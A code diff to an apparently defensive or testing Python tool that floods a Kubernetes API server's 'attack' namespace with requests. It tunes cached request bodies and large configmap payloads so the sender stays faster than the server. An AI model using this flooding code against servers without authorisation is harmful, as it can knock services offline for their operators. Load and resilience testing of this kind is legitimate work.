@@ -12,6 +12,8 @@ PODS: Final = "/api/v1/namespaces/attack/pods"
 CONFIG_MAPS: Final = "/api/v1/namespaces/attack/configmaps"
 CLAIMS: Final = "/apis/resource.k8s.io/{version}/namespaces/attack/resourceclaims"
 
+DIFFERENT_BODIES: Final = 8
+
 Send = Callable[[asyncio.StreamReader, asyncio.StreamWriter, int], Awaitable[int]]
 
 
@@ -118,15 +120,21 @@ def _get(path: str, **headers: str) -> Send:
 
 
 def _post(path: str, make: Callable[[int], bytes], method: str = "POST", **headers: str) -> Send:
+    bodies: dict[int, bytes] = {}
+    headers.setdefault("content_type", "application/json")
+
     async def send(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, number: int) -> int:
-        headers.setdefault("content_type", "application/json")
-        return await exchange(reader, writer, method, path, make(number), **headers)
+        # Few bodies, made once: the attacker must not be slower than the server.
+        number %= DIFFERENT_BODIES
+        if number not in bodies:
+            bodies[number] = make(number)
+        return await exchange(reader, writer, method, path, bodies[number], **headers)
 
     return send
 
 
 def _large_config_map(number: int) -> bytes:
-    data = {f"k{n}": "v" for n in range(60_000)}
+    data = {f"k{n}": "v" for n in range(50_000)}
     return json.dumps({"metadata": {"name": f"l{number}"}, "data": data}).encode()
 
 
